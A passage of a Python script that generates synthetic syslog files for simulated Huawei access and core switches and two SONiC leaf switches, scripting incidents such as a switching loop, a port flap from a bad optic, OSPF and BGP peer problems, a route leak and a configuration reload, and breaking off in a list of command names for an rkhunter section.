            HW_SWITCHES[h],
            t,
            f"{mod}: {label}",
            lambda x: [f"{syslog_ts(x)} {h} %%01{mod}({typ})[{SEQ}]: {msg}"],
            h,
            1_000_000,
        )

    IFS = "Interface %s has turned into %s state."

    def if_state(h: str, t: datetime, port: str, up: bool) -> datetime:
        return H(
            h,
            t,
            "IFPDT/4/IF_STATE",
            "l",
            IFS,
            f"Interface {port} has turned into {'UP' if up else 'DOWN'} state.",
        )

    def link_state(h: str, t: datetime, vif: str, up: bool) -> datetime:
        return H(
            h,
            t,
            "IFNET/4/LINK_STATE",
            "l",
            "The line protocol %s on the interface %s has entered the %s state.",
            f"The line protocol IP on the interface {vif} has entered the {'UP' if up else 'DOWN'} state.",
        )

    def mstp(h: str, t: datetime, port: str, idx: int, ifidx: int, fwd: bool) -> datetime:
        st = "forwarding" if fwd else "discarding"
        return H(
            h,
            t,
            f"MSTP/4/PORT_STATE_{st.upper()}",
            "l",
            f"The port has been set to {st} state. (InstanceID=%d, PortIndex=%d, PortState=%d, IfIndex=%d, PortName=%s, PwName=%s)",
            f"The port has been set to {st} state. (InstanceID=0, PortIndex={idx}, PortState={3 if fwd else 2}, IfIndex={ifidx}, PortName={port}, PwName=NA)",
        )

    def cmd(h: str, t: datetime, task: str, ip: str, user: str, command: str) -> datetime:
        return H(
            h,
            t,
            "SHELL/5/CMDRECORD",
            "s",
            'Recorded command information. (Task=%s, Ip=%s, VpnName=%s, User=%s, AuthenticationMethod="%s", Command="%s")',
            f'Recorded command information. (Task={task}, Ip={ip}, VpnName=, User={user}, AuthenticationMethod="Local-user", Command="{command}")',
        )

    def login(h: str, t: datetime, user: str, ip: str) -> datetime:
        return H(
            h,
            t,
            "SSH/5/SSH_USER_LOGIN",
            "s",
            "The SSH user succeeded in logging in. (ServiceType=%s, UserName=%s, IPAddress=%s, VPNInstanceName=%s.)",
            f"The SSH user succeeded in logging in. (ServiceType=stelnet, UserName={user}, IPAddress={ip}, VPNInstanceName=_public_.)",
        )

    def logout(h: str, t: datetime, user: str, ip: str, reason: str = "The user quit.") -> datetime:
        return H(
            h,
            t,
            "SSH/5/SSH_USER_LOGOUT",
            "s",
            "The SSH user logged out. (ServiceType=%s, LogoutReason=%s, UserName=%s, IPAddress=%s, VPNInstanceName=%s.)",
            f"The SSH user logged out. (ServiceType=stelnet, LogoutReason={reason}, UserName={user}, IPAddress={ip}, VPNInstanceName=_public_.)",
        )

    def suppress(h: str, t: datetime, n: int, info_id: int, mod: str, alias: str) -> datetime:
        return H(
            h,
            t,
            "INFO/4/SUPPRESS_LOG",
            "l",
            "Last message repeated %d times.(InfoID=%d, ModuleName=%s, InfoAlias=%s)",
            f"Last message repeated {n} times.(InfoID={info_id}, ModuleName={mod}, InfoAlias={alias})",
        )

    # the old NMS: a GET with two retries every five minutes, the retries suppressed
    for h in HW_SWITCHES:
        off = r.uniform(0, 120)
        for i in range(180):
            t = T0 + sec(off + 120 * i)
            t = H(
                h,
                t,
                "SNMP/4/SNMP_FAIL",
                "s",
                "Failed to login through SNMP. (Ip=%s, Times=%d, Reason=%s, VPN=%s)",
                "Failed to login through SNMP. (Ip=10.20.9.14, Times=1, Reason=the community was incorrect, VPN= )",
            )
            suppress(h, t + sec(r.uniform(28, 32)), 2, 1074610176, "SNMP", "SNMP_FAIL")
    # the office fills: access ports come up 07:30-09:00, a few go down at lunch
    for h, ports in (
        ("ACC-SW07", range(1, 41)),
        ("ACC-SW12", range(1, 45)),
        ("ACC-SW15", range(1, 47)),
    ):
        for p in ports:
            if h == "ACC-SW07" and p in (13, 14):
                continue
            port = f"GigabitEthernet0/0/{p}"
            if r.random() < 0.25:
                continue  # a phone or a printer: up all night
            tu = at(8, 10) + sec(r.gauss(0, 1500))
            tu = max(at(6, 50), min(tu, at(10, 30)))
            if_state(h, tu, port, True)
            if r.random() < 0.18:
                td = at(11, 30) + sec(r.uniform(0, 1700))
                if_state(h, td, port, False)
    # ACC-SW12's bad patch cable on GE0/0/33
    t = at(8, 10, 22)
    while t < at(8, 50):
        t = if_state("ACC-SW12", t, "GigabitEthernet0/0/33", False)
        t = if_state("ACC-SW12", t + sec(r.uniform(3, 9)), "GigabitEthernet0/0/33", True)
        t += sec(r.uniform(40, 150))
    # the core's Eth-Trunk1 member to the firewall: fibre fails 07:40, replaced 07:58
    for t, up in ((at(7, 40, 11), False), (at(7, 58, 47), True)):
        t = if_state("CORE-SW01", t, "XGigabitEthernet0/0/2", up)
        H(
            "CORE-SW01",
            t + sec(0.2),
            "TRUNK/5/TRUNK_MEM_NUMBER_CHANGE",
            "l",
            "The number of active trunk members changed. (TrunkName=%s, PortName=%s, ActiveTrunkMemNum=%d, PortStatus=%s)",
            f"The number of active trunk members changed. (TrunkName=Eth-Trunk1, PortName=XGigabitEthernet0/0/2, ActiveTrunkMemNum={2 if up else 1}, PortStatus={'Up' if up else 'Down'})",
        )
    # a printer with a static address that is also in the DHCP pool
    for t in poisson(r, at(8, 40, 5), at(9, 0, 10), 30):
        H(
            "ACC-SW12",
            t,
            "ARP/4/ARP_DUPLICATE_IPADDR",
            "l",
            "Received an ARP packet with a duplicate IP address from the interface. (IpAddress=%s, InterfaceName=%s, MacAddress=%s)",
            "Received an ARP packet with a duplicate IP address from the interface. (IpAddress=10.20.20.77, InterfaceName=Vlanif20, MacAddress=a0ce-c8d2-0e71)",
        )
    # the loop on ACC-SW07 (GE0/0/13 and GE0/0/14 cabled through a desk switch)
    loop0, loop1 = at(9, 12, 7), at(9, 26, 18)
    if_state("ACC-SW07", loop0 - sec(4), "GigabitEthernet0/0/13", True)
    if_state("ACC-SW07", loop0 - sec(2), "GigabitEthernet0/0/14", True)
    for t in poisson(r, loop0, loop1, 4.2):
        mac = r.choice(HW_MACS)
        a, b = r.sample(["GE0/0/13", "GE0/0/14", "Eth-Trunk1"], 2)
        H(
            "ACC-SW07",
            t,
            "L2IFPPI/4/MFLPVLANALARM",
            "l",
            "MAC move detected, VlanId = %d, MacAddress = %s, Original-Port = %s, Flapping port = %s. Please check the network accessed to flapping port.",
            f"MAC move detected, VlanId = 20, MacAddress = {mac}, Original-Port = {a}, Flapping port = {b}. Please check the network accessed to flapping port.",
        )
    for t in poisson(r, loop0 + sec(20), loop1, 9.0):
        mac = r.choice(HW_MACS)
        a, b = r.sample(["Eth-Trunk2", "Eth-Trunk3", "XGE0/0/5"], 2)
        H(
            "CORE-SW01",
            t,
            "L2IFPPI/4/MFLPVLANALARM",
            "l",
            "MAC move detected, VlanId = %d, MacAddress = %s, Original-Port = %s, Flapping port = %s. Please check the network accessed to flapping port.",
            f"MAC move detected, VlanId = 20, MacAddress = {mac}, Original-Port = {a}, Flapping port = {b}. Please check the network accessed to flapping port.",
        )
    for t in poisson(r, loop0 + sec(5), loop1 + sec(20), 6.0):
        H(
            "CORE-SW01",
            t,
            "MSTP/6/RECEIVE_MSTITC",
            "l",
            "MSTP received BPDU with TC, MSTP process %d instance %d, port name is %s.",
            f"MSTP received BPDU with TC, MSTP process 0 instance 0, port name is {r.choice(['Eth-Trunk2', 'Eth-Trunk2', 'Eth-Trunk3'])}.",
        )
    t = loop0 + sec(30)
    while t < loop1 + sec(40):
        for proto, cir in (
            ("arp-request", "64/10000"),
            ("arp-reply", "64/10000"),
            ("dhcp-client", "128/24064"),
        ):
            if proto == "dhcp-client" and r.random() < 0.5:
                continue
            H(
                "ACC-SW07",
                t + sec(r.uniform(0, 3)),
                "DEFD/4/CPCAR_DROP_MPU",
                "l",
                "Rate of packets to cpu exceeded the CPCAR limit on the MPU. (Protocol=%s, CIR/CBS=%s, ExceededPacketCount=%s)",
                f"Rate of packets to cpu exceeded the CPCAR limit on the MPU. (Protocol={proto}, CIR/CBS={cir}, ExceededPacketCount={r.randint(3000, 180000)})",
            )
        t += sec(60)
    for t, cpu in ((loop0 + sec(75), 93), (loop0 + sec(440), 97)):
        H(
            "ACC-SW07",
            t,
            "VOSCPU/4/CPU_USAGE_HIGH",
            "l",
            "The CPU is overloaded, and the tasks with top three CPU occupancy are %s. (CpuUsage=%d%%, Threshold=%d%%)",
            f"The CPU is overloaded, and the tasks with top three CPU occupancy are BPDU=41%, ARP=22%, FTS=9%. (CpuUsage={cpu}%, Threshold=80%)",
        )
    H(
        "ACC-SW07",
        loop1 + sec(95),
        "VOSCPU/4/CPU_USAGE_RESUME",
        "l",
        "CPU utilization recovered to the normal range. (CpuUsage=%d%%, Threshold=%d%%)",
        "CPU utilization recovered to the normal range. (CpuUsage=18%, Threshold=80%)",
    )
    # the admin finds and shuts the looped port
    t = at(9, 23, 40)
    t = login("ACC-SW07", t, "jkrause", "10.20.9.15")
    for c in [
        "display mac-address flapping record",
        "display interface brief",
        "system-view",
        "interface GigabitEthernet0/0/14",
        "shutdown",
    ]:
        t = cmd("ACC-SW07", t + sec(r.uniform(6, 45)), "VT0", "10.20.9.15", "jkrause", c)
        if c == "shutdown":
            break
    assert t < loop1
    t = loop1
    if_state("ACC-SW07", t, "GigabitEthernet0/0/14", False)
    for c in ["description LOOP-shut-by-jkrause", "quit", "quit", "save"]:
        t = cmd("ACC-SW07", t + sec(r.uniform(20, 60)), "VT0", "10.20.9.15", "jkrause", c)
    t = H(
        "ACC-SW07",
        t + sec(r.uniform(3, 8)),
        "CFM/4/SAVE",
        "l",
        "The user chose %s when deciding whether to save the configuration to the device.",
        "The user chose Y when deciding whether to save the configuration to the device.",
    )
    logout("ACC-SW07", t + sec(r.uniform(30, 90)), "jkrause", "10.20.9.15")
    # OSPF on the core: the firewall's adjacency on Vlanif100
    nbr = "10.20.100.1"

    def nbr_change(t: datetime, ev: str, a: str, b: str) -> datetime:
        return H(
            "CORE-SW01",
            t,
            "OSPF/6/NBR_CHANGE_E",
            "l",
            "Neighbor changes event: neighbor status changed. (ProcessId=%d, NeighborAddress=%s, NeighborEvent=%s, NeighborPreviousState=%s, NeighborCurrentState=%s)",
            f"Neighbor changes event: neighbor status changed. (ProcessId=1, NeighborAddress={nbr}, NeighborEvent={ev}, NeighborPreviousState={a}, NeighborCurrentState={b})",
        )

    t = at(10, 3, 12)
    t = login("CORE-SW01", t, "mweber", "10.20.9.16")
    for c in [
        "system-view",
        "interface Vlanif100",
        "ospf authentication-mode md5 1 cipher *****",
        "quit",
    ]:
        t = cmd("CORE-SW01", t + sec(r.uniform(5, 30)), "VT1", "10.20.9.16", "mweber", c)
    tdown = t + sec(r.uniform(25, 38))
    t = nbr_change(tdown, "InactivityTimer", "Full", "Down")
    H(
        "CORE-SW01",
        t + sec(0.1),
        "OSPF/3/NBR_DOWN_REASON",
        "l",
        "Neighbor state leaves full or changed to Down. (ProcessId=%d, NeighborRouterId=%s, NeighborAreaId=%d, NeighborInterface=%s, NeighborDownImmediate reason=%s, NeighborDownPrimeReason=%s, NeighborChangeTime=%s)",
        f"Neighbor state leaves full or changed to Down. (ProcessId=1, NeighborRouterId=10.20.255.1, NeighborAreaId=0, NeighborInterface=Vlanif100, NeighborDownImmediate reason=Neighbor Down Due to Inactivity, NeighborDownPrimeReason=Hello Not Seen, NeighborChangeTime={t:%Y-%m-%d %H:%M:%S})",
    )
    t = at(10, 12, 50)
    for c in ["display ospf peer brief", "display ospf error"]:
        t = cmd("CORE-SW01", t + sec(r.uniform(5, 25)), "VT1", "10.20.9.16", "mweber", c)
    t += sec(r.uniform(20, 40))
    for ev, a, b in [
        ("HelloReceived", "Down", "Init"),
        ("2WayReceived", "Init", "ExStart"),
        ("NegotiationDone", "ExStart", "Exchange"),
        ("ExchangeDone", "Exchange", "Loading"),
        ("LoadingDone", "Loading", "Full"),
    ]:
        t = nbr_change(t + sec(r.uniform(0.1, 4)), ev, a, b)
    for c in ["quit", "save"]:
        t = cmd("CORE-SW01", t + sec(r.uniform(10, 40)), "VT1", "10.20.9.16", "mweber", c)
    t = H(
        "CORE-SW01",
        t + sec(r.uniform(2, 6)),
        "CFM/4/SAVE",
        "l",
        "The user chose %s when deciding whether to save the configuration to the device.",
        "The user chose Y when deciding whether to save the configuration to the device.",
    )
    logout("CORE-SW01", t + sec(r.uniform(20, 60)), "mweber", "10.20.9.16")
    # the config backup (oxidized on 10.20.9.30) every 30 minutes; its password rotated at 10:00
    for i in range(12):
        base = T0 + sec(1800 * i + 95)
        for k, h in enumerate(HW_SWITCHES):
            t = base + sec(k * r.uniform(4, 9))
            if t < at(10, 0):
                t = login(h, t, "netbackup", "10.20.9.30")
                for c in ["screen-length 0 temporary", "display current-configuration"]:
                    t = cmd(h, t + sec(r.uniform(0.5, 2)), "VT2", "10.20.9.30", "netbackup", c)
                logout(h, t + sec(r.uniform(2, 6)), "netbackup", "10.20.9.30")
            else:
                for _ in range(3):
                    t = H(
                        h,
                        t + sec(r.uniform(1, 4)),
                        "SSH/5/SSH_USER_LOGIN_FAIL",
                        "s",
                        "The SSH user failed to login. (ServiceType=%s, FailedReason=%s, UserName=%s, IPAddress=%s, VPNInstanceName=%s.)",
                        "The SSH user failed to login. (ServiceType=stelnet, FailedReason=Authentication failed, UserName=netbackup, IPAddress=10.20.9.30, VPNInstanceName=_public_.)",
                    )
    # a server VLAN's only port down for maintenance
    t = if_state("CORE-SW01", at(11, 10, 4), "GigabitEthernet0/0/20", False)
    link_state("CORE-SW01", t + sec(0.3), "Vlanif30", False)
    t = if_state("CORE-SW01", at(11, 25, 37), "GigabitEthernet0/0/20", True)
    t = mstp("CORE-SW01", t + sec(r.uniform(0.2, 1)), "GigabitEthernet0/0/20", 20, 24, False)
    t = mstp("CORE-SW01", t + sec(30), "GigabitEthernet0/0/20", 20, 24, True)
    link_state("CORE-SW01", t + sec(0.3), "Vlanif30", True)
    # the looped ports and the new desk switch's uplink on the core side
    mstp("ACC-SW07", loop0 - sec(3), "GigabitEthernet0/0/13", 13, 16, False)
    mstp("ACC-SW07", loop0 - sec(1), "GigabitEthernet0/0/14", 14, 17, False)
    mstp("ACC-SW07", loop0 + sec(27), "GigabitEthernet0/0/13", 13, 16, True)
    mstp("ACC-SW07", loop0 + sec(29), "GigabitEthernet0/0/14", 14, 17, True)
    # the morning's admin checks
    for h, t0, user, ip, cmds in [
        (
            "CORE-SW01",
            at(6, 42, 10),
            "jkrause",
            "10.20.9.15",
            ["display interface brief", "display eth-trunk 1", "display logbuffer"],
        ),
        (
            "CORE-SW01",
            at(7, 44, 30),
            "jkrause",
            "10.20.9.15",
            [
                "display interface XGigabitEthernet0/0/2",
                "display transceiver interface XGigabitEthernet0/0/2 verbose",
                "display eth-trunk 1",
            ],
        ),
        (
            "ACC-SW12",
            at(8, 52, 3),
            "mweber",
            "10.20.9.16",
            [
                "display interface GigabitEthernet0/0/33",
                "display arp | include 10.20.20.77",
                "display mac-address a0ce-c8d2-0e71",
            ],
        ),
    ]:
        t = login(h, t0, user, ip)
        for c in cmds:
            t = cmd(h, t + sec(r.uniform(8, 50)), "VT0", ip, user, c)
        logout(h, t + sec(r.uniform(20, 120)), user, ip)
    renumber(fs, {f: r.randint(1200, 9000) for f in HW_SWITCHES.values()})
    return fs.logs(T0)


# --------------------------------------------------------------------------------------- sonic

SONIC_OIDS = {f"Ethernet{4 * i}": 0x1000000000002 + i for i in range(32)}
SONIC_PEERS = {
    # host: [(port, local ip, peer ip, peer name, peer mac)]
    "leaf01": [
        ("Ethernet0", "10.0.0.1", "10.0.0.0", "spine01", "0c:42:a1:6e:10:00"),
        ("Ethernet4", "10.0.0.65", "10.0.0.64", "spine02", "0c:42:a1:7b:22:00"),
    ],
    "leaf02": [
        ("Ethernet0", "10.0.0.3", "10.0.0.2", "spine01", "0c:42:a1:6e:10:04"),
        ("Ethernet4", "10.0.0.67", "10.0.0.66", "spine02", "0c:42:a1:7b:22:04"),
    ],
}
SONIC_MAC = {"leaf01": "b8:6a:97:2e:41:c0", "leaf02": "b8:6a:97:2e:55:40"}


def sonic(r: random.Random) -> list[Log]:
    """Two SONiC 202305 leaves (Broadcom) in a Clos fabric, their /var/log/syslog (`leaf01-syslog`,
    `leaf02-syslog`): snmpd's `ia_addr` error every minute; a marginal optic on leaf01's uplink
    to spine01 flapping 07:10-07:38 (orchagent's port state, the host interface, portsyncd's
    netlink message, the neighbor removed and created, bgpd's ADJCHANGE, monit's routeCheck
    failing and recovering); a PFC storm from a storage server on leaf02's Ethernet48 08:30-08:55
    (the watchdog detecting and restoring); a new BGP peer on leaf02 configured with the wrong AS
    09:31-10:14 (NOTIFICATION sent, Bad Peer AS); a route leak filling leaf02's route table
    10:20-10:55 (CRM THRESHOLD_EXCEEDED every five minutes, then THRESHOLD_CLEAR); a hot sensor on
    leaf01; and `config reload` on leaf02 at 11:20 (containers stopped, syncd applying the view,
    every port configured again, LACP and BGP back)."""
    fs = Files()
    pids = {
        "leaf01": {"bgpd": 38, "snmpd": 26, "monit": 601, "teamd": 33},
        "leaf02": {"bgpd": 41, "snmpd": 27, "monit": 598, "teamd": 35},
    }

    def S(h: str, t: datetime, lvl: str, tag: str, label: str, msg: str) -> datetime:
        return fs.add(
            f"{h}-syslog",
            t + sec(r.uniform(0, 0.0004)),
            label,
            lambda x: [f"{x.year} {syslog_ts(x)}.{x.microsecond:06d} {h} {lvl} {tag}: {msg}"],
            (h, tag),
            1,
        )

    def swss(h: str, t: datetime, lvl: str, prog: str, func: str, label: str, msg: str) -> datetime:
        return S(h, t, lvl, f"swss#{prog}", label, f":- {func}: {msg}")

    def bgpd(h: str, t: datetime, label: str, msg: str) -> datetime:
        return S(
            h,
            t,
            "NOTICE" if "NOTIFICATION" in label else "INFO",
            f"bgp#bgpd[{pids[h]['bgpd']}]",
            label,
            f"[{frr_uid(label)}] {msg}",
        )

    def monit(h: str, t: datetime, lvl: str, label: str, msg: str) -> datetime:
        return S(h, t, lvl, f"monit[{pids[h]['monit']}]", label, msg)

    def ifindex(port: str) -> int:
        return 4 + int(port[8:]) // 4

    def nlmsg(h: str, t: datetime, port: str, admin: int, oper: int) -> datetime:
        return swss(
            h,
            t,
            "NOTICE",
            "portsyncd",
            "onMsg",
            "nlmsg type:%d key:%s admin:%d oper:%d addr:%s ifindex:%d master:%d",
            f"nlmsg type:16 key:{port} admin:{admin} oper:{oper} addr:{SONIC_MAC[h]} ifindex:{ifindex(port)} master:0",
        )

    def port_change(h: str, t: datetime, port: str, up: bool) -> datetime:
        a, b = ("down", "up") if up else ("up", "down")
        t = swss(
            h,
            t,
            "NOTICE",
            "orchagent",
            "handleNotification",
            "Get port state change notification id:%lx status:%d",
            f"Get port state change notification id:{SONIC_OIDS[port]:x} status:{1 if up else 2}",
        )
        t = swss(
            h,
            t + sec(r.uniform(0.0001, 0.0008)),
            "NOTICE",
            "orchagent",
            "updatePortOperStatus",
            "Port %s oper state set from %s to %s",
            f"Port {port} oper state set from {a} to {b}",
        )
        t = swss(
            h,
            t + sec(r.uniform(0.0001, 0.0009)),
            "NOTICE",
            "orchagent",
            "setHostIntfsOperStatus",
            "Set operation status %s to host interface %s",
            f"Set operation status {'UP' if up else 'DOWN'} to host interface {port}",
        )
        return nlmsg(h, t + sec(r.uniform(0.001, 0.006)), port, 1, 1 if up else 0)

    def adj_up(h: str, t: datetime, peer: str, name: str) -> datetime:
        return bgpd(
            h,
            t,
            "%%ADJCHANGE: neighbor %pBP in vrf %s Up",
            f"%ADJCHANGE: neighbor {peer}({name}) in vrf default Up",
        )

    def adj_down(h: str, t: datetime, peer: str, name: str, why: str) -> datetime:
        return bgpd(
            h,
            t,
            "%%ADJCHANGE: neighbor %pBP in vrf %s Down %s",
            f"%ADJCHANGE: neighbor {peer}({name}) in vrf default Down {why}",
        )

    def nbr_add(h: str, t: datetime, ip: str, mac: str, port: str) -> datetime:
        return swss(
            h,
            t,
            "NOTICE",
            "orchagent",
            "addNeighbor",
            "Created neighbor ip %s, %s on %s",
            f"Created neighbor ip {ip}, {mac} on {port}",
        )

    def nbr_del(h: str, t: datetime, mac: str, port: str) -> datetime:
        return swss(
            h,
            t,
            "NOTICE",
            "orchagent",
            "removeNeighbor",
            "Removed neighbor %s on %s",
            f"Removed neighbor {mac} on {port}",
        )

    # snmpd's known complaint, every minute on both
    for h in ("leaf01", "leaf02"):
        off = r.uniform(0, 60)
        for i in range(360):
            t = T0 + sec(off + 60 * i + r.uniform(0, 0.02))
            if h == "leaf02" and at(11, 19, 40) <= t < at(11, 23, 30):
                continue
            S(
                h,
                t,
                "ERR",
                f"snmp#snmpd[{pids[h]['snmpd']}]",
                "error on subcontainer '%s' insert (%d)",
                "error on subcontainer 'ia_addr' insert (-1)",
            )
    # leaf01's marginal optic on Ethernet0
    port, _lip, peer, name, pmac = SONIC_PEERS["leaf01"][0]
    t = at(7, 10, 14)
    while t < at(8, 4):
        t = port_change("leaf01", t, port, False)
        nbr_del("leaf01", t + sec(r.uniform(0.01, 0.05)), pmac, port)
        adj_down("leaf01", t + sec(r.uniform(0.002, 0.02)), peer, name, "Interface down")
        t += sec(r.uniform(2, 25))
        t = port_change("leaf01", t, port, True)
        nbr_add("leaf01", t + sec(r.uniform(1.5, 4)), peer, pmac, port)
        t = adj_up("leaf01", t + sec(r.uniform(4, 12)), peer, name)
        t += sec(r.uniform(15, 100))
    fail_json = '{{#012    "Unaccounted_ROUTE_ENTRY_TABLE_entries": [#012        "10.1.0.1/32",#012        "192.168.0.0/25"#012    ]#012}}'
    for k in range(10):
        monit(
            "leaf01",
            at(7, 14, 2) + sec(300 * k + r.uniform(0, 2)),
            "ERR",
            "'%s' status failed (%d) -- Failure results: %s#012Failed. Look at reported mismatches above#012add: %s#012del: %s",
            f"'routeCheck' status failed (255) -- Failure results: {fail_json}#012Failed. Look at reported mismatches above#012add: []#012del: []",
        )
    monit(
        "leaf01",
        at(8, 9, 3),
        "INFO",
        "'%s' status succeeded (%d) -- %s",
        "'routeCheck' status succeeded (0) -- no output",
    )
    # the storage server's PFC storm on leaf02 Ethernet48, queue 3
    t = at(8, 30, 41)
    qid = 0x15000000000633
    while t < at(8, 55):
        t = swss(
            "leaf02",
            t,
            "NOTICE",
            "orchagent",
            "handleWdNotification",
            "PFC Watchdog detected PFC storm on port %s, queue index %d, queue id 0x%lx and port id 0x%lx.",
            f"PFC Watchdog detected PFC storm on port Ethernet48, queue index 3, queue id 0x{qid:x} and port id 0x{SONIC_OIDS['Ethernet48']:x}.",
        )
        t = swss(
            "leaf02",
            t + sec(r.uniform(0.4, 8)),
            "NOTICE",
            "orchagent",
            "handleWdNotification",
            "PFC Watchdog storm restored on port %s, queue index %d, queue id 0x%lx and port id 0x%lx.",
            f"PFC Watchdog storm restored on port Ethernet48, queue index 3, queue id 0x{qid:x} and port id 0x{SONIC_OIDS['Ethernet48']:x}.",
        )
        t += sec(r.uniform(40, 150))
    # the new peer with the wrong remote AS on leaf02
    t = at(9, 31, 20)
    while t < at(10, 14):
        t = bgpd(
            "leaf02",
            t,
            "%%NOTIFICATION: sent to neighbor %s %d/%d (%s%s) %d bytes %s",
            "%NOTIFICATION: sent to neighbor 10.0.1.9 2/2 (OPEN Message Error/Bad Peer AS) 2 bytes fe4d",
        )
        t += sec(r.uniform(118, 124))
    nbr_add("leaf02", at(10, 14, 5), "10.0.1.9", "1c:34:da:5e:71:08", "Ethernet56")
    adj_up("leaf02", at(10, 14, 31), "10.0.1.9", "fw-edge01")
    # the route leak: leaf02's IPv4 route table over 85% 10:20-10:55
    t = at(10, 22, 13)
    used = 13900
    for _ in range(7):
        used += r.randint(40, 320)
        swss(
            "leaf02",
            t,
            "WARNING",
            "orchagent",
            "checkCrmThresholds",
            "%s THRESHOLD_EXCEEDED for %s %u%% Used count %u free count %u",
            f"IPV4_ROUTE THRESHOLD_EXCEEDED for TH_PERCENTAGE {used * 100 // 16384}% Used count {used} free count {16384 - used}",
        )
        t += sec(300)
    used = 9120
    swss(
        "leaf02",
        t,
        "NOTICE",
        "orchagent",
        "checkCrmThresholds",
        "%s THRESHOLD_CLEAR for %s %u%% Used count %u free count %u",
        f"IPV4_ROUTE THRESHOLD_CLEAR for TH_PERCENTAGE {used * 100 // 16384}% Used count {used} free count {16384 - used}",
    )
    # a hot sensor on leaf01
    for t0, t1, peak in (
        (at(9, 47, 31), at(10, 4, 2), 71.5),
        (at(11, 37, 40), at(11, 44, 52), 70.5),
    ):
        S(
            "leaf01",
            t0,
            "WARNING",
            "pmon#thermalctld",
            "High temperature warning: %s current temperature %sC, high threshold %sC",
            f"High temperature warning: ASIC Temp current temperature {peak}C, high threshold 70.0C",
        )
        S(
            "leaf01",
            t1,
            "NOTICE",
            "pmon#thermalctld",
            "High temperature warning cleared: %s temperature restored to %sC, high threshold %sC",
            f"High temperature warning cleared: ASIC Temp temperature restored to {r.choice([66.0, 67.5, 68.0])}C, high threshold 70.0C",
        )
    # a server port on each leaf going down and up now and then (hosts rebooting)
    for h in ("leaf01", "leaf02"):
        for t in poisson(r, at(6, 20), at(11, 10), 420):
            p = f"Ethernet{r.choice([8, 12, 24, 28, 32, 36, 40, 44])}"
            t = port_change(h, t, p, False)
            port_change(h, t + sec(r.uniform(60, 240)), p, True)
    # the LAG to the firewall pair: a member's partner stops sending LACPDUs for a moment
    for t in poisson(r, at(6, 30), at(11, 10), 900):
        h = r.choice(["leaf01", "leaf02"])
        m = r.choice(["Ethernet16", "Ethernet20"])
        tg = f"teamd#teamd_PortChannel0001[{pids[h]['teamd']}]"
        t = S(
            h,
            t,
            "INFO",
            tg,
            '%s: Changed port state: "%s" -> "%s"',
            f'{m}: Changed port state: "current" -> "expired"',
        )
        S(
            h,
            t + sec(r.uniform(1, 3)),
            "INFO",
            tg,
            '%s: Changed port state: "%s" -> "%s"',
            f'{m}: Changed port state: "expired" -> "current"',
        )
    # config reload on leaf02 at 11:20
    h = "leaf02"
    t = at(11, 20, 6)
    monit(
        h,
        at(11, 21, 2),
        "ERR",
        "'%s' status failed (%d) -- Expected containers not running: %s",
        "'container_checker' status failed (3) -- Expected containers not running: bgp, swss, syncd, teamd",
    )
    t = at(11, 21, 40) + sec(r.uniform(0, 1))
    ops = [
        ("SAI_OBJECT_TYPE_ROUTER_INTERFACE", 28),
        ("SAI_OBJECT_TYPE_VIRTUAL_ROUTER", 1),
        ("SAI_OBJECT_TYPE_HOSTIF", 32),
        ("SAI_OBJECT_TYPE_HOSTIF_TRAP_GROUP", 7),
        ("SAI_OBJECT_TYPE_HOSTIF_TRAP", 21),
        ("SAI_OBJECT_TYPE_POLICER", 7),
        ("SAI_OBJECT_TYPE_BUFFER_POOL", 2),
        ("SAI_OBJECT_TYPE_BUFFER_PROFILE", 5),
        ("SAI_OBJECT_TYPE_QUEUE", 640),
        ("SAI_OBJECT_TYPE_SCHEDULER", 2),
        ("SAI_OBJECT_TYPE_WRED", 1),
        ("SAI_OBJECT_TYPE_LAG", 1),
        ("SAI_OBJECT_TYPE_LAG_MEMBER", 2),
        ("SAI_OBJECT_TYPE_NEIGHBOR_ENTRY", 6),
        ("SAI_OBJECT_TYPE_NEXT_HOP", 6),
        ("SAI_OBJECT_TYPE_ROUTE_ENTRY", 6403),
    ]
    for ot, n in ops:
        t = S(
            h,
            t + sec(r.uniform(0.0005, 0.004)),
            "NOTICE",
            "syncd#syncd",
            "operations on %s: %d",
            f":- executeOperationsOnAsic: operations on {ot}: {n}",
        )
    pids[h]["bgpd"] = 37
    pids[h]["teamd"] = 34
    live = [
        p
        for p in SONIC_OIDS
        if p
        not in (
            "Ethernet52",
            "Ethernet60",
            "Ethernet64",
            "Ethernet68",
            "Ethernet100",
            "Ethernet104",
            "Ethernet116",
            "Ethernet120",
        )
    ]
    tt = t + sec(2.5)
    for p in SONIC_OIDS:
        tt = swss(
            h,
            tt + sec(r.uniform(0.0003, 0.002)),
            "NOTICE",
            "orchagent",
            "doPortTask",
            "Set port %s MTU to %u",
            f"Set port {p} MTU to 9100",
        )
        tt = swss(
            h,
            tt + sec(r.uniform(0.0003, 0.002)),
            "NOTICE",
            "orchagent",
            "doPortTask",
            "Set port %s admin status to %s",
            f"Set port {p} admin status to up",
        )
        nlmsg(h, tt + sec(r.uniform(0.001, 0.01)), p, 1, 0)
    tb = bgpd(
        h,
        t + sec(1.1),
        "BGPd %s starting: vty@%d, bgp@%s:%d",
        "BGPd 8.5.1 starting: vty@2605, bgp@<all>:179",
    )
    tu = tt + sec(3.5)
    for p in live:
        tu = port_change(h, tu + sec(r.uniform(0.01, 0.3)), p, True)
    tg = f"teamd#teamd_PortChannel0001[{pids[h]['teamd']}]"
    for m in ("Ethernet16", "Ethernet20"):
        x = S(
            h,
            tu + sec(r.uniform(0.5, 1.5)),
            "INFO",
            tg,
            '%s: Changed port state: "%s" -> "%s"',
            f'{m}: Changed port state: "disabled" -> "expired"',
        )
        S(
            h,
            x + sec(r.uniform(0.8, 2.5)),
            "INFO",
            tg,
            '%s: Changed port state: "%s" -> "%s"',
            f'{m}: Changed port state: "expired" -> "current"',
        )
    for port, _lip, peer, name, pmac in SONIC_PEERS[h]:
        nbr_add(h, tu + sec(r.uniform(2, 5)), peer, pmac, port)
        adj_up(h, tu + sec(r.uniform(6, 15)), peer, name)
    nbr_add(h, tu + sec(r.uniform(2, 5)), "10.0.1.9", "1c:34:da:5e:71:08", "Ethernet56")
    adj_up(h, tu + sec(r.uniform(6, 15)), "10.0.1.9", "fw-edge01")
    assert tb < tu
    monit(
        h,
        at(11, 26, 3),
        "INFO",
        "'%s' status succeeded (%d) -- %s",
        "'container_checker' status succeeded (0) -- no output",
    )
    return fs.logs(T0)


# ------------------------------------------------------------------------------------ rkhunter

RK_CMDS = [
    "awk",
    "basename",
    "bash",
    "cat",
    "chattr",
    "chmod",
    "chown",
    "cp",
    "cut",
    "date",
    "depmod",
    "df",
    "diff",
    "dirname",
    "dmesg",
    "du",
    "echo",
    "ed",
    "egrep",
    "env",
    "fgrep",
    "file",
